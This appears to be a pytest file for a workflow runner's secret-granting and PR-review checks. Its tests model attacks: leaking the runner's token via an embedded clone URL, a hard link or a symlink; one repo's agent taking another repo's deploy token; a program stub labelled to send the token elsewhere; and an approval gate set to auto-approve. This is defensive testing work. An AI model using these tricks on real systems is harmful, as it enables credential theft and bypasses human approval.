def test_a_grant_whose_value_holds_the_runners_token_is_refused(tmp_path: Path, how: str) -> None:
    """The runner's token can only be refused when named: the check of values is equality, so
    a value that *contains* it (a clone URL with the token inside, the usual way to give git a
    token) is granted. A hard link to the token's file is caught by value; a symlink by path."""
    need_sandbox()
    repo = tmp_path / "workflows"
    commit(
        repo,
        {
            "agents/cloner/agent.yaml": manifest(
                "cloner", "{command: [python, main.py], secrets: [CLONE_URL]}"
            ),
            "agents/cloner/main.py": REPORTER,
            "workflows/clone.yaml": workflow("clone", "{id: go, agent: cloner}"),
        },
    )
    token_file = tmp_path / "forge-token"
    token_file.write_text(OWN["GH_TOKEN"] + "\n")
    forges = FORGES.replace("token_env: GH_TOKEN", f"token_file: {token_file}")
    env: dict[str, str] = {}
    if how == "embedded":
        env["CLONE_SOURCE"] = f"https://x-access-token:{OWN['GH_TOKEN']}@github.com/acme/app.git"
        grant = "{name: CLONE_URL, env: CLONE_SOURCE, agents: [cloner]}"
        forges = FORGES
    elif how == "hardlink":
        os.link(token_file, tmp_path / "innocent")
        grant = f"{{name: CLONE_URL, file: {tmp_path / 'innocent'}, agents: [cloner]}}"
    else:
        (tmp_path / "innocent").symlink_to(token_file)
        grant = f"{{name: CLONE_URL, file: {tmp_path / 'innocent'}, agents: [cloner]}}"
    site = Site(tmp_path / "site", forges + f"secrets: [{grant}]\n", env=env)
    ran = site("run", "clone", "--repo", str(repo))
    if how == "symlink":  # refused when the configuration loads
        assert ran.returncode == 2, ran.stdout + ran.stderr
        assert "holds the runner's own credentials" in ran.stderr
        return
    assert ran.returncode == 1, ran.stdout + ran.stderr
    (step,) = site.show()["steps"]
    assert step["status"] == "failed"
    assert step["outputs"] is None  # the agent never started
    assert "runner's own credentials" in (step["error"] or "")


def test_a_grant_for_one_sources_agent_is_not_taken_by_another_sources_agent(
    tmp_path: Path,
) -> None:
    """Grants name agents and workflows, which are unique per source only. With two sources
    (the ops repo and a team repo with weaker review), a grant written for the ops repo's
    `deployer` in `deploy` is also a grant to the team repo's own `deployer` in its own
    `deploy`."""
    repos = {}
    for name in ("ops", "team"):
        repo = tmp_path / name
        commit(
            repo,
            {
                "agents/deployer/agent.yaml": manifest(
                    "deployer", "{command: [python, main.py], secrets: [DEPLOY_TOKEN]}"
                ),
                "agents/deployer/main.py": f"print('{name} deployer')\n",
                "workflows/deploy.yaml": workflow("deploy", "{id: go, agent: deployer}"),
            },
        )
        repos[name] = repo
    site = Site(
        tmp_path / "site",
        "sources:\n"
        f"  - {{name: ops, url: '{repos['ops']}', branch: main}}\n"
        f"  - {{name: team, url: '{repos['team']}', branch: main}}\n"
        + FORGES
        + "secrets:\n"
        + "  - {name: DEPLOY_TOKEN, env: DEPLOY, agents: [deployer], workflows: [deploy]}\n",
        env={"DEPLOY": "deploy-token-of-ops"},
    )
    # with two sources a grant must say whose agents it is for: unscoped, it does not load
    refused = site("reconcile", "--once")
    assert refused.returncode == 2
    assert "with several sources, say whose agents this secret is for" in refused.stderr
    config = site.root / "runner.yaml"
    config.write_text(
        config.read_text().replace("workflows: [deploy]}", "workflows: [deploy], sources: [ops]}")
    )
    site("reconcile", "--once")
    sources = {s["name"]: s for s in json.loads(site("sources", "--output", "json").stdout)}
    assert sources["ops"]["applied_revision"] is not None  # the legitimate path
    assert sources["team"]["applied_revision"] is None, (
        "the team repo's own `deployer` is granted the ops repo's DEPLOY_TOKEN"
    )


# == 5. what reviewers of a pull request to the workflows repo see ==============================
@pytest.mark.anyio
async def test_pr_changing_only_an_agents_program_is_shown_to_reviewers(
    comments: tuple[Any, Any], github: Any
) -> None:
    """`deployer` keeps its manifest; its program now sends whatever it is granted elsewhere.
    The check compares workflow and agent *documents* only: no comment, no status at all."""
    repo, dispatcher = comments
    head = open_pr(
        repo,
        7,
        {"agents/deployer/main.py": "import os, urllib.request  # send the token elsewhere\n"},
    )
    await dispatcher.handle(delivery(7, head, "opened", repo.url))
    mine = [c for c in github.comments if c[1] == 7]
    assert mine, "no comment on a PR that rewrites an agent's program"
    assert "agents/deployer/main.py" in posted(github, 7)


@pytest.mark.anyio
async def test_pr_making_a_gate_approve_itself_is_shown_as_a_dropped_gate(
    comments: tuple[Any, Any], github: Any
) -> None:
    """`approval: {timeout: 1s, on_timeout: approve}` keeps a gate on paper and opens it a
    second later: the comment still lists "`deploy` step `ship`: 1 from anyone with write
    access" and says nothing widens."""
    repo, dispatcher = comments
    gated = DEPLOY.replace(
        "- {id: ship, agent: deployer, needs: [scan]}",
        "- {id: ship, agent: deployer, needs: [scan],"
        " approval: {timeout: 1s, on_timeout: approve}}",
    )
    assert gated != DEPLOY
    head = open_pr(repo, 8, {"workflows/deploy.yaml": gated})
    await dispatcher.handle(delivery(8, head, "opened", repo.url))
    text = posted(github, 8)
    assert "**valid**" in text
    assert "nothing widens" not in text, text
    assert "deploy/ship" in text.split("What this merge grants", 1)[1], text
